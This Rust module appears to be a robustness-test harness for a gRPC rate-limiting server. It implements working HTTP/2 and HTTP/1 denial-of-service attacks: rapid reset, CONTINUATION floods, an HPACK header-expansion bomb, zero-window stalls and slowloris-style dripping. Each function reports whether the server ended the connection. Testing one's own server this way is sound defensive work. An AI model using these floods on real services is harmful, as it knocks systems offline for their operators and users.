//! Attacks, byte by byte. Each goes on until the server ends it, or for as long as it is told to.

use std::io;
use std::net::SocketAddr;
use std::time::Duration;

use prost::Message;
use throttlekit_proto::v1::CheckRequest;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::OwnedWriteHalf;
use tokio::task::JoinHandle;

use crate::client::{CHECK, framed};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const ACK: u8 = 1;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a frame").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A header as HPACK writes it in full, not to be remembered. Names and values below 127 bytes.
fn header(name: &str, value: &str) -> Vec<u8> {
    let short = |text: &str| u8::try_from(text.len()).ok().filter(|&length| length < 127).expect("short");
    [&[0, short(name)], name.as_bytes(), &[short(value)], value.as_bytes()].concat()
}

fn request_headers() -> Vec<u8> {
    let pairs = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", CHECK),
        (":authority", "server"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ];
    pairs.iter().flat_map(|(name, value)| header(name, value)).collect()
}

fn ask() -> Vec<u8> {
    let ask = CheckRequest { policy: "api".into(), key: "attacked".into(), ..CheckRequest::default() };
    framed(&ask.encode_to_vec()).to_vec()
}

/// A connection that reads whatever comes and answers pings, so that only what it is meant to do wrong is wrong.
struct Wire {
    write: OwnedWriteHalf,
    /// Ends when the server ends the connection.
    ended: JoinHandle<()>,
}

impl Wire {
    async fn open(address: SocketAddr, settings: &[u8]) -> io::Result<Self> {
        let tcp = TcpStream::connect(address).await?;
        tcp.set_nodelay(true)?;
        let (mut read, mut write) = tcp.into_split();
        write
            .write_all(&[PREFACE, &frame(SETTINGS, 0, 0, settings), &frame(SETTINGS, ACK, 0, &[])].concat())
            .await?;
        let ended = tokio::spawn(async move {
            let mut bytes = vec![0; 64 * 1024];
            while read.read(&mut bytes).await.is_ok_and(|read| read > 0) {}
        });
        Ok(Self { write, ended })
    }

    /// Whether the server is done with us.
    fn is_over(&self) -> bool {
        self.ended.is_finished()
    }

    async fn ended_within(self, time: Duration) -> bool {
        tokio::time::timeout(time, self.ended).await.is_ok()
    }
}

/// Opens streams and takes them back at once, until the connection is ended. How many streams that took, if the
/// server did end it.
pub(crate) async fn rapid_reset(address: SocketAddr, streams: u32) -> io::Result<Option<u32>> {
    let mut wire = Wire::open(address, &[]).await?;
    let (headers, ask) = (request_headers(), ask());
    for number in 0..streams {
        let stream = number * 2 + 1;
        let burst = [
            frame(HEADERS, END_HEADERS, stream, &headers),
            frame(DATA, END_STREAM, stream, &ask),
            frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
        ]
        .concat();
        if wire.is_over() || wire.write.write_all(&burst).await.is_err() {
            return Ok(Some(number));
        }
    }
    let ended = wire.ended_within(Duration::from_secs(1)).await;
    Ok(ended.then_some(streams))
}

/// Sends requests that make the server end their streams: a window update of nothing is an error of the stream.
pub(crate) async fn made_reset(address: SocketAddr, streams: u32) -> io::Result<Option<u32>> {
    const WINDOW_UPDATE: u8 = 8;
    let mut wire = Wire::open(address, &[]).await?;
    let headers = request_headers();
    for number in 0..streams {
        let stream = number * 2 + 1;
        let burst = [
            frame(HEADERS, END_HEADERS, stream, &headers),
            frame(WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes()),
        ]
        .concat();
        if wire.is_over() || wire.write.write_all(&burst).await.is_err() {
            return Ok(Some(number));
        }
    }
    let ended = wire.ended_within(Duration::from_secs(1)).await;
    Ok(ended.then_some(streams))
}

/// Goes on and on with the headers of one request. How many bytes it took, if the server ended it.
pub(crate) async fn continuation_flood(address: SocketAddr, bytes_max: usize) -> io::Result<Option<usize>> {
    let mut wire = Wire::open(address, &[]).await?;
    wire.write.write_all(&frame(HEADERS, 0, 1, &request_headers())).await?;
    let junk: Vec<u8> = (0..100).flat_map(|_| header("x-junk", &"j".repeat(100))).collect();
    let junk = frame(CONTINUATION, 0, 1, &junk);
    let mut sent = 0;
    while sent < bytes_max {
        if wire.is_over() || wire.write.write_all(&junk).await.is_err() {
            return Ok(Some(sent));
        }
        sent += junk.len();
    }
    let ended = wire.ended_within(Duration::from_secs(1)).await;
    Ok(ended.then_some(sent))
}

/// A long header, remembered by HPACK, and then named ten thousand times by a byte each: 40 MB of headers in 16 KB.
pub(crate) async fn header_bomb(address: SocketAddr, rounds: u32) -> io::Result<()> {
    let mut wire = Wire::open(address, &[]).await?;
    for round in 0..rounds {
        let mut block = request_headers();
        // Remembered: `bomb` with 4000 bytes, whose length HPACK writes as 127 and then 3873 in groups of 7 bits.
        block.extend([0x40, 4]);
        block.extend(b"bomb");
        block.extend([127, 0xA1, 0x1E]);
        block.extend(std::iter::repeat_n(b'b', 4000));
        block.extend(std::iter::repeat_n(0x80 | 62, 10_000));
        wire.write.write_all(&frame(HEADERS, END_HEADERS | END_STREAM, round * 2 + 1, &block)).await?;
        if wire.is_over() {
            return Ok(());
        }
    }
    Ok(())
}

/// Asks for much and takes none of it: a window of nothing, pings answered. Whether the server ended it in time.
pub(crate) async fn zero_window(address: SocketAddr, streams: u32, time: Duration) -> io::Result<bool> {
    // SETTINGS_INITIAL_WINDOW_SIZE of 0.
    let mut wire = Wire::open(address, &[0, 4, 0, 0, 0, 0]).await?;
    let (headers, ask) = (request_headers(), ask());
    for number in 0..streams {
        let stream = number * 2 + 1;
        let burst =
            [frame(HEADERS, END_HEADERS, stream, &headers), frame(DATA, END_STREAM, stream, &ask)].concat();
        wire.write.write_all(&burst).await?;
    }
    Ok(wire.ended_within(time).await)
}

/// Begins the headers of a request over HTTP/2 and never ends them, while pings go on. Whether it was ended in time.
pub(crate) async fn unended_headers(address: SocketAddr, time: Duration) -> io::Result<bool> {
    let mut wire = Wire::open(address, &[]).await?;
    wire.write.write_all(&frame(PING, 0, 0, &[0; 8])).await?;
    wire.write.write_all(&frame(HEADERS, 0, 1, &request_headers()[..10])).await?;
    Ok(wire.ended_within(time).await)
}

/// Sends these bytes one by one, with a pause after each, until the server ends it. Whether it did in time.
pub(crate) async fn drip(
    address: SocketAddr,
    bytes: &[u8],
    pause: Duration,
    time: Duration,
) -> io::Result<bool> {
    let (mut read, mut write) = TcpStream::connect(address).await?.into_split();
    let reading = async {
        let mut bytes = [0; 1024];
        while read.read(&mut bytes).await.is_ok_and(|read| read > 0) {}
    };
    let dripping = async {
        for byte in bytes {
            if write.write_all(&[*byte]).await.is_err() {
                break;
            }
            tokio::time::sleep(pause).await;
        }
        std::future::pending::<()>().await;
    };
    let ended = async {
        tokio::select! {
            () = reading => {},
            () = dripping => {},
        }
    };
    Ok(tokio::time::timeout(time, ended).await.is_ok())
}

/// The first bytes of HTTP/2, to be sent slowly.
pub(crate) const SLOW_PREFACE: &[u8] = PREFACE.split_at(20).0;
/// Headers of HTTP/1 that never end.
pub(crate) const SLOW_HEADERS: &[u8] =
    b"GET / HTTP/1.1\r\nhost: a\r\nx-a: bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";
